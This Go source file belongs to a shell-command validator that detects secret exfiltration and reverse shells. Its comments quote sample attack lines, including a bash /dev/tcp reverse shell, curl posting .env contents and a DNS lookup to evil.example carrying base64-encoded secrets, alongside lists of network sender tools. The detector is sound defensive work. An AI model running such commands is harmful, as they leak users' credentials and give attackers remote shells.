package validator

import (
	"github.com/permgate/permgate/internal/lazyre"
	"github.com/permgate/permgate/places"
	"path"
	"strings"

	"github.com/permgate/permgate/shellparse"
)

// Exfiltration: a secret sent off the machine (SPEC §2). The secret is a file
// secret_access names (by any spelling), or the environment (env, printenv),
// and it leaves through an upload option (curl -d @FILE, -F f=@FILE, -T FILE,
// wget --post-file), a copy to a remote (scp, rsync, sftp), or standard input
// fed to a program that sends it (curl @-, nc, socat, ssh, mail …) by a pipe,
// a redirect or a here-string. Reverse shells (bash -i >& /dev/tcp/…) run code
// from the network and are pipe_to_shell.

// emitsSecret reports that the command's output may hold a secret: it reads
// one (secret_access among its findings), prints the environment, or passes on
// what a pipe fed it from such a command (base64, gzip, tar …).
func (ck *checker) emitsSecret(c shellparse.SimpleCommand) bool {
	for _, f := range ck.out {
		if f.Kind == "secret_access" {
			return true
		}
	}
	if len(c.Argv) == 0 {
		return false
	}
	args := c.Argv[1:]
	switch path.Base(c.Name) {
	case "env", "printenv":
		if printingEnv(args) {
			return true
		}
	case "set", "export", "declare", "typeset", "compgen":
		if len(operands(args)) == 0 || c.Name == "compgen" && hasFlag(args, "ve") {
			return true
		}
	}
	for _, a := range args {
		if a.Static && strings.HasSuffix(a.Text, "/environ") && strings.HasPrefix(a.Text, "/proc/") {
			return true
		}
	}
	return ck.stdinSecret(c)
}

// stdinSecret reports standard input that may carry a secret: a pipe from a
// command that emits one, or a redirect from a secret file.
func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
	if c.Stdin.Kind == shellparse.InputPipe {
		for _, i := range c.Stdin.From {
			if ck.secretOut[i] {
				return true
			}
		}
	}
	for _, r := range c.Redirects {
		if (r.Op == "<" || r.Op == "<>") && (r.Fd == "" || r.Fd == "0") && (ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target)) {
			return true
		}
	}
	if c.Stdin.Kind == shellparse.InputHereString || c.Stdin.Kind == shellparse.InputHereDoc {
		for _, p := range envSecretParams(c.Stdin.Text) {
			if secretVar(p) {
				return true
			}
		}
	}
	return false
}

// envSecretParams returns the parameter names a here-string's source text expands.
func envSecretParams(text string) []string {
	var out []string
	for i := 0; i < len(text); i++ {
		if text[i] != '$' {
			continue
		}
		j := i + 1
		if j < len(text) && text[j] == '{' {
			j++
		}
		k := j
		for k < len(text) && (text[k] == '_' || text[k] >= 'A' && text[k] <= 'Z' || text[k] >= 'a' && text[k] <= 'z' || text[k] >= '0' && text[k] <= '9') {
			k++
		}
		if k > j {
			out = append(out, text[j:k])
		}
	}
	return out
}

// secretWord reports a word that names a secret file (or, with dirs, a folder
// of secrets), by any spelling: ~, $HOME, ${HOME:-…}, variables set earlier,
// globs (~/.ssh/*), and the path after =, @ or : (-d@.env, file=@~/.aws/credentials).
func (ck *checker) secretWord(w shellparse.Word, dirs bool) bool {
	var texts []string
	glob := w.Glob
	if w.Subst && decodedName().MatchString(w.Text) {
		return true // a name only a decoder reveals is not proven free of secrets
	}
	if w.Static || w.Glob && len(w.Params) == 0 && !w.Subst {
		texts = []string{w.Text}
	} else {
		texts, _ = ck.expandPath(w)
	}
	for _, text := range texts {
		var candBuf [4]string
		for _, cand := range pathCandidates(candBuf[:0], text) {
			cand = strings.TrimPrefix(cand, "@")
			cand = strings.TrimPrefix(cand, "<")
			if cand == "" || cand == "-" {
				continue
			}
			if rest, ok := strings.CutPrefix(cand, "~/"); ok && ck.v.env.Home != "" {
				cand = ck.v.env.Home + "/" + rest
			} else if cand == "~" && ck.v.env.Home != "" {
				cand = ck.v.env.Home
			}
			g := glob || hasGlob(cand)
			if ck.secretPath(cand, g) || !g && ck.secretCopies != nil && ck.secretCopies[ck.resolve(cand)] {
				return true
			}
			if dirs && !g && places.SecretDirBase(path.Base(strings.TrimSuffix(cand, "/"))) && secretDir(ck.resolve(cand)) {
				return true
			}
		}
	}
	return false
}

// exfilSenders send what they read on standard input over the network.
var exfilSenders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "openssl": true,
	"ssh": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true, "http": true, "https": true, "xh": true, "xhs": true,
	"ftp": true, "tftp": true, "sftp": true}

// exfil judges one command for secrets sent off the machine.
func (ck *checker) exfil(c shellparse.SimpleCommand) {
	ck.reverseShell(c)
	if len(c.Argv) == 0 {
		return
	}
	base := path.Base(c.Name)
	args := c.Argv[1:]
	stdin := ck.stdinSecret(c)
	sender := exfilSenders[base] && (base != "openssl" || firstOperand(args) == "s_client")
	if sender || downloaders[base] || dnsTools[base] {
		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
		// substitution that carries a secret into what the program sends.
		for _, a := range args {
			if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
				ck.add("exfiltration", "send_secret", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
				return
			}
		}
	}
	switch base {
	case "curl":
		ck.curlExfil(args, stdin)
		return
	case "wget":
		for _, v := range longValuesOf(args, "--post-file", "--body-file") {
			if ck.secretWord(v, false) || stdin && (v.Text == "-" || shellparse.IsStdinPath(v.Text)) {
				ck.add("exfiltration", "wget_post_secret", Severe, "wget sends "+v.Text+", which holds secrets, to a server")
				return
			}
		}
	case "scp", "rsync", "sftp", "rclone":
		ck.copyExfil(base, args)
	case "gh":
		if ops := operands(args); len(ops) > 2 && ops[0].Text == "gist" && ops[1].Text == "create" {
			for _, f := range ops[2:] {
				if ck.secretWord(f, false) || stdin && f.Text == "-" {
					ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads "+f.Text+", which holds secrets")
					return
				}
			}
		}
	case "aws", "gsutil":
		ops := operands(args)
		if len(ops) >= 3 && (ops[0].Text == "s3" || base == "gsutil") {
			src, dst := ops[len(ops)-2], ops[len(ops)-1]
			if strings.Contains(dst.Text, "://") && (ck.secretWord(src, true) || stdin && src.Text == "-") {
				ck.add("exfiltration", "upload_secret", Severe, base+" uploads "+src.Text+", which holds secrets")
				return
			}
		}
	}
	if base == "sftp" && (c.Stdin.Kind == shellparse.InputHereString || c.Stdin.Kind == shellparse.InputHereDoc) {
		// sftp's batch commands: put FILE sends it.
		for _, line := range strings.Split(c.Stdin.Text, "\n") {
			f := strings.Fields(line)
			if len(f) >= 2 && (f[0] == "put" || f[0] == "mput" || f[0] == "reput") {
				for _, name := range f[1:] {
					if !strings.HasPrefix(name, "-") && ck.secretWord(shellparse.Word{Text: name, Static: true}, true) {
						ck.add("exfiltration", "sftp_secret", Severe, "sftp puts "+name+", which holds secrets, on a remote host")
						return
					}
				}
			}
		}
	}
	if sender && (base != "openssl" || opensslConnects(args)) {
		if stdin {
			ck.add("exfiltration", "send_stdin_secret", Severe, base+" sends what it reads, which holds secrets, off the machine")
			return
		}
		if base == "socat" {
			for _, a := range operands(args) {
				addr := strings.ToLower(a.Text)
				for _, kind := range []string{"open:", "file:", "gopen:", "create:"} {
					if strings.HasPrefix(addr, kind) && ck.secretWord(shellparse.Word{Text: a.Text[len(kind):], Static: a.Static}, false) {
						ck.add("exfiltration", "socat_secret", Severe, "socat sends "+a.Text+", which holds secrets, over a connection")
						return
					}
				}
			}
		}
		if base == "mail" || base == "mailx" || base == "mutt" {
			for _, v := range append(shortValues(args, 'a', "sbcrS"), longValues(args, "--attach")...) {
				if ck.secretWord(v, false) {
					ck.add("exfiltration", "mail_secret", Severe, base+" mails "+v.Text+", which holds secrets")
					return
				}
			}
		}
		if base == "http" || base == "https" || base == "xh" || base == "xhs" {
			for _, a := range args[min(1, len(args)):] {
				if strings.Contains(a.Text, "@") && ck.secretWord(a, false) {
					ck.add("exfiltration", "send_file_secret", Severe, base+" sends "+a.Text+", which holds secrets")
					return
				}
			}
		}
	}
	// Anything written to /dev/tcp or /dev/udp leaves the machine.
	for _, r := range c.Redirects {
		if r.Writes() && netDevice(r.Target.Text) && (stdin || ck.readsSecret()) {
			ck.add("exfiltration", "redirect_secret", Severe, "sends a secret to "+r.Target.Text)
			return
		}
	}
}

// readsSecret reports a secret_access finding on the current command.
func (ck *checker) readsSecret() bool {
	for _, f := range ck.out {
		if f.Kind == "secret_access" {
			return true
		}
	}
	return false
}

// curlUploads are curl's options whose value is sent: @FILE reads a file (@-
// standard input), -F/--form take NAME=@FILE or NAME=<FILE, -T/--upload-file a
// file name.
var curlUploads = []string{"--data", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "--form", "--upload-file", "--form-string", "--url-query"}

// curlArgLetters are curl's short options that take a value.
const curlArgLetters = "AbcCdDeEFHKmoPQrtTuUwxXyYz"

func (ck *checker) curlExfil(args []shellparse.Word, stdin bool) {
	var values []shellparse.Word
	uploads := map[string]bool{}
	for _, letter := range []byte{'d', 'F', 'T'} {
		for _, v := range shortValues(args, letter, strings.ReplaceAll(curlArgLetters, string(letter), "")) {
			values = append(values, v)
			if letter == 'T' {
				uploads[v.Text] = true
			}
		}
	}
	for i, a := range args {
		if !a.Static || !strings.HasPrefix(a.Text, "--") {
			continue
		}
		name, value, eq := strings.Cut(a.Text, "=")
		for _, opt := range curlUploads {
			if name != opt {
				continue
			}
			v := shellparse.Word{Text: value, Static: true}
			if !eq {
				if i+1 >= len(args) {
					break
				}
				v = args[i+1]
			}
			values = append(values, v)
			if opt == "--upload-file" {
				uploads[v.Text] = true
			}
		}
	}
	for _, v := range values {
		text := v.Text
		file := uploads[text]
		// @FILE, NAME@FILE (--data-urlencode), NAME=@FILE and NAME=<FILE (-F).
		if !file {
			if at := strings.IndexAny(text, "@<"); at >= 0 {
				text = text[at+1:]
				file = true
			}
		}
		if !file {
			continue
		}
		text, _, _ = strings.Cut(text, ";") // -F f=@file;type=text/plain
		if text == "-" || text == "." || shellparse.IsStdinPath(text) {
			if stdin {
				ck.add("exfiltration", "curl_stdin_secret", Severe, "curl sends its standard input, which holds secrets, to a server")
				return
			}
			continue
		}
		w := v
		w.Text = text
		if ck.secretWord(w, false) {
			ck.add("exfiltration", "curl_secret", Severe, "curl sends "+v.Text+", which holds secrets, to a server")
			return
		}
	}
}

// copyExfil: scp, rsync, sftp and rclone copying a secret to a remote.
func (ck *checker) copyExfil(name string, args []shellparse.Word) {
	files := skipOptArgs(args, map[string]bool{"-e": true, "--rsh": true, "-P": name == "scp", "-i": name == "scp", "-F": name != "rsync", "-l": name == "scp", "-o": name != "rsync", "-c": name == "scp", "-S": name == "scp", "-J": name == "scp", "-b": name == "sftp"})
	if name == "rclone" {
		if len(files) < 3 {
			return
		}
		files = files[1:]
	}
	if len(files) < 2 {
		return
	}
	dst := files[len(files)-1]
	if !remotePath(dst.Text) && !strings.Contains(dst.Text, "://") {
		return
	}
	for _, src := range files[:len(files)-1] {
		if remotePath(src.Text) {
			continue
		}
		if ck.secretWord(src, true) {
			ck.add("exfiltration", "copy_secret", Severe, name+" copies "+src.Text+", which holds secrets, to "+dst.Text)
			return
		}
	}
}

// netDevice reports bash's network pseudo-files /dev/tcp/HOST/PORT and /dev/udp/….
func netDevice(p string) bool {
	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
}

// reverseShell: a shell or interpreter whose input or output is a network
// connection (bash -i >& /dev/tcp/HOST/PORT 0>&1, sh <&196 after exec
// 196<>/dev/tcp/…) runs commands that come from the network; nc -e, ncat --exec
// and socat EXEC: serve a shell to the network.
func (ck *checker) reverseShell(c shellparse.SimpleCommand) {
	for _, r := range c.Redirects {
		if netDevice(r.Target.Text) && len(c.Argv) == 0 || netDevice(r.Target.Text) && c.Name == "exec" && len(c.Argv) == 1 {
			if ck.sockets == nil {
				ck.sockets = map[string]bool{}
			}
			fd := r.Fd
			if fd == "" {
				fd = "0"
				if r.Op != "<" {
					fd = "1"
				}
			}
			ck.sockets[fd] = true
		}
	}
	if len(c.Argv) == 0 {
		return
	}
	base := path.Base(c.Name)
	if shellparse.IsShell(c.Name) || isInterpreter(base) {
		for _, r := range c.Redirects {
			if netDevice(r.Target.Text) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && ck.sockets[r.Target.Text] {
				ck.add("pipe_to_shell", "reverse_shell", Severe, c.Name+" reads its commands from a network connection ("+r.Target.Text+"): a reverse shell")
				return
			}
		}
	}
	args := c.Argv[1:]
	switch base {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for _, v := range append(append(shortValues(args, 'e', "pswiqTIOVxX"), shortValues(args, 'c', "pswiqTIOVxX")...), longValuesOf(args, "--exec", "--sh-exec", "--lua-exec")...) {
			ck.add("pipe_to_shell", "network_shell", Severe, base+" connects "+clip(v.Text)+" to the network: whoever is at the other end runs commands here")
			return
		}
	case "socat":
		ops := operands(args)
		exec, net := false, false
		for _, a := range ops {
			addr := strings.ToLower(a.Text)
			if strings.HasPrefix(addr, "exec:") || strings.HasPrefix(addr, "system:") {
				exec = true
			}
			for _, kind := range []string{"tcp", "udp", "ssl", "openssl", "sctp", "unix"} {
				if strings.HasPrefix(addr, kind) {
					net = true
				}
			}
		}
		if exec && net {
			ck.add("pipe_to_shell", "socat_shell", Severe, "socat connects a program to the network: whoever is at the other end runs commands here")
		}
	}
}

// grepLike take a pattern as their first operand (unless -e or -f gives it),
// and -e's values are patterns: a pattern that mentions .env is not access.
var grepLike = map[string]string{
	"grep": "efmABCdD", "egrep": "efmABCdD", "fgrep": "efmABCdD", "zgrep": "efmABCdD", "rg": "efgjmMtTEABCr", "ag": "ABCGgmp", "ack": "ABCgm",
}

// gitNameOnly are git subcommands whose path operands are names, not contents.
var gitNameOnly = map[string]bool{"check-ignore": true, "ls-files": true, "rm": true, "mv": true, "status": true, "check-attr": true,
	"update-index": true, "ls-tree": true, "restore": true, "checkout": true, "clean": true, "stash": true, "add": false}

// nameOnlyArgs returns, by index in Argv[1:], the arguments a command takes as
// names or patterns rather than files it reads; all when every argument is one
// (the command never reads a file's content).
func nameOnlyArgs(c shellparse.SimpleCommand) (names map[int]bool, all bool) {
	args := c.Argv[1:]
	switch base := path.Base(c.Name); base {
	case "git":
		g := parseGit(args)
		if gitNameOnly[g.sub] {
			return nil, true
		}
		if (g.sub == "log" || g.sub == "shortlog" || g.sub == "whatchanged") && !hasFlag(g.args, "pu", "--patch", "-L", "--full-diff", "--word-diff") {
			return nil, true // history of the names, not their contents
		}
		if g.sub == "grep" {
			return grepPatterns(g.args, "efmABCO", len(args)-len(g.args)), false
		}
	case "find":
		for _, p := range shellparse.FindPrimaries(args) {
			switch p.Name {
			case "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete":
				return nil, false
			}
		}
		return nil, true // find lists names: -name '.env*' is a pattern
	case "eval":
		return nil, true // its words are code, judged as a script
	case "echo", "printf", "fd", "fdfind", "locate", "plocate", "mlocate", "which", "whereis", "type", "command", "hash", "export", "unset", "alias", "ssh-keygen":
		if base == "ssh-keygen" && !hasFlag(args, "", "--") && len(shortValues(args, 'f', "bCDEFIJjKMNnOPrstVwYZaz")) > 0 && !hasFlag(args, "yepc") {
			return nil, true // ssh-keygen -t … -f KEY creates the key
		}
		if base == "ssh-keygen" {
			return nil, false
		}
		return nil, true
	default:
		if letters, ok := grepLike[base]; ok {
			return grepPatterns(args, letters, 0), false
		}
	}
	return nil, false
}

// grepPatterns marks a grep's pattern arguments: -e values and, without -e or
// -f, the first operand. offset is the index of args[0] in the argument list.
func grepPatterns(args []shellparse.Word, valueLetters string, offset int) map[int]bool {
	out := map[int]bool{}
	given := false
	for i := 0; i < len(args); i++ {
		t := args[i].Text
		if !args[i].Static {
			continue
		}
		if t == "--" {
			if !given && i+1 < len(args) {
				out[offset+i+1] = true
			}
			return out
		}
		if t == "-e" || t == "--regexp" {
			given = true
			if i+1 < len(args) {
				out[offset+i+1] = true
			}
			i++
			continue
		}
		if strings.HasPrefix(t, "--regexp=") || strings.HasPrefix(t, "--file=") || t == "-f" || t == "--file" {
			given = true
			if strings.HasPrefix(t, "--regexp=") {
				out[offset+i] = true
			}
			if t == "-f" || t == "--file" {
				i++
			}
			continue
		}
		if strings.HasPrefix(t, "--") {
			if !strings.Contains(t, "=") && (t == "--max-count" || t == "--context" || t == "--after-context" || t == "--before-context" || t == "--glob" || t == "--type" || t == "--include" || t == "--exclude") {
				i++
			}
			continue
		}
		if strings.HasPrefix(t, "-") && len(t) > 1 {
			if strings.HasPrefix(t, "-e") && len(t) > 2 {
				given = true
				out[offset+i] = true
				continue
			}
			if clusterEndsWithArg(t, valueLetters) {
				if t[len(t)-1] == 'e' {
					given = true
					out[offset+i+1] = true
				}
				if t[len(t)-1] == 'f' {
					given = true
				}
				i++
			}
			continue
		}
		if !given {
			out[offset+i] = true
		}
		return out
	}
	return out
}

// decodedName finds a substitution that decodes or rebuilds text: the name it
// gives is hidden from the reader ($(echo fi5zc2gv… | base64 -d)).
var decodedName = lazyre.New(`\$\(.*(base64\s+(-d|-D|--decode)|base32\s+(-d|--decode)|basenc\s+.*-d|xxd\s+.*-r|(\||\$\()\s*(rev|tr)\s|(\||\$\()\s*rev\s*\)|openssl\s+(enc|base64)|gunzip|zcat|printf\s+['"]?(\\x|\\[0-7]))`)

// noteSecretCopies remembers where a command that reads a secret puts it: a
// copy's destination, a redirect's file.
func (ck *checker) noteSecretCopies(c shellparse.SimpleCommand) {
	var targets []shellparse.Word
	for _, r := range c.Redirects {
		if r.Writes() {
			targets = append(targets, r.Target)
		}
	}
	if len(c.Argv) > 0 {
		switch path.Base(c.Name) {
		case "cp", "mv", "install", "ln", "rsync", "tee", "dd", "base64", "gzip", "tar", "zip", "openssl":
			targets = append(targets, writeTargets(c)...)
		}
	}
	for _, t := range targets {
		texts, _ := ck.expandPath(t)
		for _, text := range texts {
			if ck.secretCopies == nil {
				ck.secretCopies = map[string]bool{}
			}
			ck.secretCopies[ck.resolve(text)] = true
		}
	}
}

// inlineLiteral finds the string literals in inline code.
var inlineLiteral = lazyre.New(`"([^"\\]{1,300})"|'([^'\\]{1,300})'`)

// inlineSecrets: inline code that names a secret file in a string literal
// reads it (python3 -c "print(open('.env').read())").
func (ck *checker) inlineSecrets(name, code string) {
	for _, m := range inlineLiteral().FindAllStringSubmatch(code, 16) {
		lit := m[1] + m[2]
		if lit == "" || strings.ContainsAny(lit, " \t\n") {
			continue
		}
		if ck.secretWord(shellparse.Word{Text: lit, Static: true}, false) {
			ck.add("secret_access", "code_reads_secret", NonSevere, name+" code reads "+lit+", which holds secrets")
			return
		}
	}
}

// opensslConnects reports an openssl command that talks to a server
// (s_client, s_time); openssl x509, enc, dgst … only read and print.
func opensslConnects(args []shellparse.Word) bool {
	ops := operands(args)
	return len(ops) == 0 || !ops[0].Static || ops[0].Text == "s_client" || ops[0].Text == "s_time"
}

// dnsTools send the names they are given to name servers and hosts.
var dnsTools = map[string]bool{"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "drill": true, "kdig": true}

// substCarriesSecret reports a word whose command substitution runs a command
// that reads a secret or prints the environment.
func (ck *checker) substCarriesSecret(w shellparse.Word) bool {
	for j := 0; j < ck.index && j < len(ck.res.Commands); j++ {
		inner := ck.res.Commands[j]
		if inner.Subst != "" && ck.secretOut[j] && inner.Source != "" && strings.Contains(w.Text, inner.Source) {
			return true
		}
	}
	return false
}
